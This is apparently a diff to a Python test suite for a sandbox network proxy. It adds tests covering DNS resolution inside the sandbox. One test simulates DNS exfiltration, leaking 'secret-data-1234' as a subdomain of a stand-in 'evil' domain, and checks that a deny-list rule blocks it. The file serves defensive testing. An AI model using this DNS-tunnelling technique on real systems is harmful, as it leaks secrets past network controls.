@@ -1,8 +1,8 @@
 """`authproxy sandbox run` (SPEC §5, §8): a command in a fresh sandbox whose only network path is
 the proxy. Clients inside ignore proxy variables; capture is transparent (netns + nftables).
 
-DNS inside the sandbox is not served yet, so the tests pin names with curl --resolve to an
-address that is never routed (203.0.113.0/24): the connection is captured whatever it dials.
+Some tests pin names with curl --resolve to an address that is never routed (203.0.113.0/24):
+the connection is captured whatever it dials. Others go through the sandbox's own resolver.
 Needs root (network namespaces, cgroups); skipped otherwise.
 """
 import json
@@ -125,3 +125,32 @@ def test_non_http_tcp_to_a_refused_address_is_closed(stack, tmp_path):
               "print('got', s.recv(10))\n")
     p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script])
     assert b"got b''" in p.stdout or p.returncode != 0, p.stdout
+
+
+def test_names_resolve_through_the_sandbox_resolver_and_are_captured(stack, tmp_path):
+    origin = stack.tls_origin(NAME)
+    key = stack.secret()
+    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "--noproxy", "*", "https://%s/dns" % NAME],
+                    rules=[api_rule()], secrets={"KEY": key})
+    assert p.returncode == 0, p.stderr.decode()
+    [req] = origin.snapshot()
+    assert req.path == "/dns" and req.values("Authorization") == ["Bearer " + key]
+
+
+def test_dns_for_a_denied_name_is_refused_and_never_sent_upstream(stack, tmp_path):
+    stack.dns.add_a("exfil.evil.example.test", "203.0.113.66")
+    stack.dns.add_a("fine.example.test", "203.0.113.67")
+    script = ("import socket\n"
+              "for n in ('secret-data-1234.exfil.evil.example.test', 'fine.example.test'):\n"
+              "    try:\n"
+              "        print(n, socket.gethostbyname(n))\n"
+              "    except OSError as e:\n"
+              "        print(n, 'failed', e)\n")
+    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script],
+                    access_control={"deny_list": ["*.evil.example.test"]})
+    assert p.returncode == 0, p.stderr.decode()
+    out = p.stdout.decode()
+    assert "secret-data-1234.exfil.evil.example.test failed" in out, out
+    assert "fine.example.test 203.0.113.67" in out, out
+    assert not stack.dns.queried("secret-data-1234.exfil.evil.example.test")
+    assert stack.dns.queried("fine.example.test")
